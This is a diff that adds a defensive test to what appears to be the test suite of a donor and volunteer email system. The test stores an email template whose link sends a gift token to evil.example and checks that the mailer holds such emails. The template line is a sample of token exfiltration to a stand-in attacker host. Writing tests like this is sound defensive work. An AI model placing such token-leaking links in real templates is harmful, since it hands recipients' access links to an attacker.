@@ -111,3 +111,22 @@ it("threat 7: the approval email contains the activation link, whatever its temp
   expect(days, "the link becomes valid when the email is sent").toBe(7);
   await sql`delete from public.volunteer_applications where email = ${EMAIL_ADDRESS}`;
 });
+
+it("threat 68: a stored template that would take the token to another site holds its emails, however it was stored", async () => {
+  await sql`
+    insert into public.email_templates (name, subject, html_content)
+    values ('Gift Link', 'Your link', '<p><a href="https://evil.example/?t={{giftLink}}">Open</a></p>')
+    on conflict (name) do update set html_content = excluded.html_content`;
+  const [link] = await sql<[{ id: string }]>`
+    select private.create_donor_link(${EMAIL_ADDRESS}) as id`;
+  const [id = ""] = await queueEmails(1, "Gift Link", { name: "Ada", giftLinkId: link.id });
+  const { attemptedEmails } = await runMailer();
+  expect(attemptedEmails).toEqual([]);
+  const [mail] = await sql`select status, last_error from public.email_outbox where id = ${id}`;
+  expect(mail).toMatchObject({
+    status: "held",
+    last_error: expect.stringContaining("only the whole address of a link"),
+  });
+  await sql`delete from public.donor_links where id = ${link.id}`;
+  await sql`delete from public.email_templates where name = 'Gift Link'`;
+});
